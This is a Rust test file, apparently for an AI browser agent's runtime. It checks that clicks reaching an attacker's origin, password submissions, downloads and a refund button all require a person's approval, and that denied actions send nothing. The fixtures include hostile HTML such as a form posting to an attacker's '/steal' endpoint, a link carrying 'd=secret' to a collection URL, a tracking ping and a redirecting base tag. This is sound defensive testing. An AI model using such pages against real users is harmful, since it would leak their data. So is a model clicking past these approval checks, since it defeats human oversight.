@@ -1,0 +1,132 @@
+//! Issue 14: a write is judged by where it goes and by what the target is, not by its label. Each
+//! hostile page sits on the trusted origin and aims at an attacker's origin (a second loopback
+//! server whose request log proves what reached it). A compromised agent clicks what the page
+//! wants; every click that would reach the attacker asks a person naming the attacker's origin,
+//! and once the person says no, nothing arrives there.
+
+use std::time::Duration;
+
+use protocol::ErrorCode;
+use runtime::{ApprovalDecision, RuntimeError};
+use test_support::FixtureServer;
+
+use crate::{click, env, env_with};
+
+/// The action on `name` of a fresh observation: refused for a person's approval, the pending
+/// approval it made.
+async fn asks(env: &crate::Env, name: &str) -> runtime::ApprovalRequest {
+    let o = env.runtime.observe(&env.session, None, &Default::default()).await.unwrap();
+    let action = click(&o, name);
+    match env.runtime.act(&env.session, None, &action, &Default::default(), Duration::ZERO).await {
+        Err(RuntimeError::NeedsApproval { approval_id, .. }) => {
+            let request = env.runtime.pending_approvals().into_iter().find(|r| r.approval_id == approval_id).expect("pending");
+            // The person declines; the identical action is refused and sends nothing.
+            env.runtime.resolve_approval(&approval_id, ApprovalDecision::Deny).unwrap();
+            let again = env.runtime.act(&env.session, None, &action, &Default::default(), Duration::ZERO).await;
+            assert!(matches!(&again, Err(e) if e.code() == ErrorCode::ApprovalDenied), "{name}: {again:?}");
+            request
+        }
+        other => panic!("{name}: expected a person's approval, got {other:?}"),
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn writes_are_judged_by_the_origin_they_reach_and_declined_ones_send_nothing() {
+    let env = env("hostile-reach", true).await;
+    let attacker = FixtureServer::start().await.unwrap();
+    let evil = attacker.origin();
+    attacker.html("/frame.html", "<!doctype html><button onclick=\"fetch('/vote', {method: 'POST'})\">Vote</button>");
+    env.server.html(
+        "/hostile.html",
+        format!(
+            r#"<!doctype html><title>Hostile</title>
+<form action="{evil}/steal" method=post><input name=q aria-label=Query value="my notes"><button>Search</button></form>
+<a href="/next.html" ping="{evil}/ping">Next</a>
+<a href="{evil}/collect?d=secret">Continue</a>
+<iframe src="{evil}/frame.html" title=poll></iframe>"#
+        ),
+    );
+    env.server.html("/based.html", format!(r#"<!doctype html><base href="{evil}/"><a href="collect?d=1">Read more</a>"#));
+    crate::open(&env.runtime, &env.session, &env.server.url("/hostile.html")).await.unwrap();
+    crate::observe_until(&env.runtime, &env.session, "Vote").await;
+
+    // An off-origin form action: the post would land on the attacker's origin.
+    let search = asks(&env, "Search").await;
+    assert_eq!(search.origin, evil, "{search:?}");
+    assert!(search.reason.contains("form posts to"), "{search:?}");
+    // A ping to the attacker's origin rides along with a same-origin link.
+    let next = asks(&env, "Next").await;
+    assert_eq!(next.origin, evil, "{next:?}");
+    assert!(next.reason.contains("pings"), "{next:?}");
+    // A link to the attacker's origin.
+    assert_eq!(asks(&env, "Continue").await.origin, evil);
+    // A click inside the attacker's iframe is asked for as the frame's origin, not the page's.
+    let vote = asks(&env, "Vote").await;
+    assert_eq!(vote.origin, evil, "{vote:?}");
+
+    // `<base href>` points every relative link elsewhere: the outline and the approval say where.
+    crate::open(&env.runtime, &env.session, &env.server.url("/based.html")).await.unwrap();
+    let o = crate::observe_until(&env.runtime, &env.session, "Read more").await;
+    assert!(o.aria_snapshot().contains(&format!("-> {evil}/collect?d=")), "{}", o.aria_snapshot());
+    assert_eq!(asks(&env, "Read more").await.origin, evil);
+
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let reached: Vec<String> = attacker.requests().iter().map(|r| format!("{} {}", r.method, r.path)).filter(|r| !r.ends_with("/frame.html")).collect();
+    assert!(reached.is_empty(), "nothing reached the attacker: {reached:?}");
+}
+
+/// High impact from structure, not words: a form that would send a filled password, a link that
+/// saves a file, and a point click on a commit button all ask every time, on a trusted origin;
+/// a person may make their own login form ordinary (`credential_origins`), which changes nothing
+/// else.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn high_impact_is_known_from_structure_and_credential_origins_are_a_persons_choice() {
+    let page = r#"<!doctype html><title>Admin</title>
+<form method=post action="/login"><input aria-label=User value=ada><input type=password aria-label=Password value="s3cret-pw"><button>Continue</button></form>
+<a href="/report.csv" download>Export</a>
+<form method=post action="/orders"><button style="position:absolute;left:300px;top:300px;width:200px;height:40px">Refund all orders</button></form>"#;
+    let env = env("hostile-structure", true).await;
+    env.server.html("/admin.html", page);
+    crate::open(&env.runtime, &env.session, &env.server.url("/admin.html")).await.unwrap();
+    let login = asks(&env, "Continue").await;
+    assert_eq!(login.tier, policy::RiskTier::R3, "submitting a filled password: {login:?}");
+    assert_eq!(asks(&env, "Export").await.tier, policy::RiskTier::R3, "a download link");
+    // A point on the refund button (from a screenshot) is classified as that button.
+    let o =
+        env.runtime.observe(&env.session, None, &browser::ObserveOptions { screenshot: Some(protocol::ImageMime::Png), ..Default::default() }).await.unwrap();
+    let point = protocol::validate_extended_action(&serde_json::json!({
+        "type": "click", "expected_frame_id": o.frame_id().as_str(), "target": {"kind": "point", "x": 400, "y": 320}, "intent": "refund"
+    }))
+    .unwrap();
+    let err = env.runtime.act(&env.session, None, &point, &Default::default(), Duration::ZERO).await.unwrap_err();
+    let RuntimeError::NeedsApproval { approval_id, .. } = err else { panic!("{err:?}") };
+    let request = env.runtime.pending_approvals().into_iter().find(|r| r.approval_id == approval_id).unwrap();
+    assert_eq!(request.tier, policy::RiskTier::R3, "{request:?}");
+    assert!(request.target.contains("Refund all orders"), "the approval names the element under the point: {request:?}");
+    env.runtime.resolve_approval(&approval_id, ApprovalDecision::Deny).unwrap();
+    assert!(env.server.writes().is_empty(), "nothing was posted");
+
+    // The person's own login form: credential fields of this trusted origin are ordinary.
+    let mine = env_with("hostile-credentials", true, |c| {
+        let origin = c.trust.trusted_origins[0].clone();
+        c.trust.credential_origins.push(origin);
+    })
+    .await;
+    mine.server.html("/admin.html", page);
+    crate::open(&mine.runtime, &mine.session, &mine.server.url("/admin.html")).await.unwrap();
+    let o = mine.runtime.observe(&mine.session, None, &Default::default()).await.unwrap();
+    mine.runtime
+        .act(&mine.session, None, &click(&o, "Continue"), &Default::default(), Duration::ZERO)
+        .await
+        .expect("no approval for the person's own login form");
+    assert_eq!(mine.server.writes().len(), 1, "the login was posted");
+    crate::open(&mine.runtime, &mine.session, &mine.server.url("/admin.html")).await.unwrap();
+    let o = crate::observe_until(&mine.runtime, &mine.session, "Export").await;
+    assert!(
+        matches!(
+            mine.runtime.act(&mine.session, None, &click(&o, "Export"), &Default::default(), Duration::ZERO).await,
+            Err(RuntimeError::NeedsApproval { .. })
+        ),
+        "a download still asks"
+    );
+}
